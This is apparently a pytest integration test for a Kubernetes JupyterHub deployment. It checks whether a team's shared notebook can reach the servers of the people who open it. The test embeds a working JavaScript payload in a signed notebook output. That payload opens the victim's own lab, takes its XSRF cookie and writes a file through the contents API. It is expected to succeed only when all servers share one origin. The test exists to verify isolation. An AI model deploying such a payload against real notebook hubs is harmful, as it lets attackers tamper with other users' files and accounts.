"""What a notebook of a team may do to who opens it: its scripts run in their browser, which is logged in to the hub."""

from __future__ import annotations

from importlib.util import find_spec
from pathlib import Path

import pytest
from onemachine.proxy import proxy
from userspace.settings import Team, User

from tests.browser import lab
from tests.cluster import Cluster
from tests.hub_kubernetes.accounts import HubAccount, hub_account
from tests.hub_kubernetes.edited import edited
from tests.hub_kubernetes.person import person
from tests.hub_kubernetes.provider import login, provider
from tests.hub_kubernetes.running import Domain, hub, in_cluster

pytest.importorskip("kubespawner", reason="the hub's own packages are not installed")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.cluster,
    pytest.mark.long,
    pytest.mark.skipif(find_spec("oidc_provider_mock") is None, reason="the tests' login provider is not installed"),
]

SCRIPT = """
document.addEventListener("click", async () => {
  const victim = window.open("%(home)s/lab");
  try {
    for (let tried = 0; !victim.document.querySelector(".jp-Launcher, .jp-Notebook") && tried < 600; tried++)
      await new Promise(then => setTimeout(then, 100));
    const token = victim.document.cookie.match(/_xsrf=([^;]+)/)[1];
    const body = JSON.stringify({type: "file", format: "text", content: "not mine"});
    const headers = {"X-XSRFToken": token, "Content-Type": "application/json"};
    const answer = await victim.fetch("%(home)s/api/contents/left.txt", {method: "PUT", headers, body});
    window.became = answer.status;
  } catch (error) {
    window.became = error.name;
  }
}, {once: true, capture: true});
"""
"""A click anywhere in the page opens the victim's own server in another tab, and writes a file there as they could."""
SIGNED = """
import nbformat, sys
from nbformat.sign import NotebookNotary
made = nbformat.v4.new_output("display_data", {"application/javascript": sys.argv[1]})
cell = nbformat.v4.new_code_cell("plot()", outputs=[made], execution_count=1)
kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}  # else the page asks which one
book = nbformat.v4.new_notebook(cells=[cell], metadata=kernel)
nbformat.write(book, "results.ipynb")
NotebookNotary().sign(book)
"""
"""By the team's server, as every notebook is that somebody has run there: whoever opens it trusts it."""


@pytest.fixture
def named() -> Domain:
    """Names below `localhost` are this machine to every browser."""
    found = proxy()
    if found.instead:
        pytest.skip(f"no proxy that tells names apart: {found.instead}")
    return Domain("hub.localhost", found.command)


@pytest.mark.parametrize(("apart", "became"), [(False, 201), (True, "SecurityError")])
def test_a_teams_notebook_reaches_its_readers_own_servers_where_all_servers_have_one_name(
    cluster: Cluster, tmp_path: Path, named: Domain, apart: bool, became: int | str
) -> None:
    """And not where each user has a name of their own below the hub's."""
    if reason := lab.why_not():
        pytest.skip(reason)
    with hub_account(cluster, tmp_path) as account:
        team = Team(f"v-{account.site.hub_namespace}", group="vision")
        bob, together = account.user("bob"), account.of_team(team)
        config = {"TEST_CONFIG": str(edited(tmp_path, TEAMS=repr((team,))))}
        with (
            provider({bob.name: ["ml", "vision"]}) as address,
            hub(
                tmp_path,
                in_cluster(account, cluster) | login(address, address) | config,
                domain=named if apart else None,
            ) as running,
            person(tmp_path, bob.name) as victim,
        ):
            victim.arrive(running.address)
            victim.log_in()
            victim.start("cpu")
            home = victim.page.url.removesuffix("/lab")
            victim.page.goto(f"{running.address}/hub/spawn/{together.name}")
            victim.start("cpu")
            run(account, together, SIGNED, SCRIPT % {"home": home})
            victim.page.goto(f"{victim.page.url}/tree/results.ipynb")
            victim.page.locator(".jp-Notebook").click()
            found = victim.page.wait_for_function("() => window.became").json_value()
            victim.page.screenshot(path=tmp_path / "victim.png")
            there = run(account, bob, "import os; print(os.path.exists('left.txt'))")
    assert (found, there) == (became, f"{became == 201}\n")


def run(account: HubAccount, user: User, program: str, *args: str) -> str:
    """In the pod of their server; what it printed."""
    pod, here = f"jupyter-{user.name}", f"--namespace={user.namespace}"
    return account.admin("exec", pod, here, "--", "python3", "-c", program, *args).stdout
